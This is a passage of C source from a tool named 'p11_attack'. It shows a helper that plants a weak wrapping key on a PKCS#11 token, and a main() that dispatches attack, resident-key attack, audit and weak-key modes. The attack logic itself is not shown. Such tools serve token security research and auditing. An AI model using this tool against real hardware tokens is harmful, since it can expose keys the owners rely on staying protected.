        {CKA_DECRYPT, &no, sizeof no},       {CKA_SIGN, &no, sizeof no},
        {CKA_VERIFY, &no, sizeof no},        {CKA_DERIVE, &no, sizeof no},
        {CKA_LABEL, (void *)label, strlen(label)}, {CKA_ID, id, sizeof id - 1},
        {CKA_VALUE, value, 32},
    };
    CK_OBJECT_HANDLE h;
    CK_RV rv = fn->C_CreateObject(sess, t, sizeof t / sizeof t[0], &h);
    memset(value, 0, sizeof value);
    if (rv != CKR_OK) {
        fprintf(stderr, "p11_attack: C_CreateObject: %s\n", rv_name(rv));
        return 2;
    }
    printf("made an old-style wrap key '%s'\n", label);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc < 4) {
        fprintf(stderr, "usage: p11_attack MODULE TOKEN attack|attack-resident|attack-audit|make-weak-wrapkey ...\n");
        return 2;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (open_token(argv[1], argv[2]) != 0)
        return 2;
    int rc = 2;
    if (strcmp(argv[3], "attack") == 0 && argc == 8) {
        outdir = argv[7];
        rc = attack(argv[4], argv[5], argv[6]);
    } else if (strcmp(argv[3], "attack-resident") == 0 && argc == 7) {
        outdir = argv[6];
        rc = attack_resident(argv[4], argv[5]);
    } else if (strcmp(argv[3], "attack-audit") == 0 && argc == 4) {
        rc = attack_audit();
    } else if (strcmp(argv[3], "make-weak-wrapkey") == 0 && argc == 6) {
        rc = make_weak(argv[4], argv[5]);
    } else {
        fprintf(stderr, "p11_attack: bad arguments\n");
    }
    (void)fn->C_Logout(sess);
    (void)fn->C_CloseSession(sess);
    (void)fn->C_Finalize(NULL);
    return rc;
}
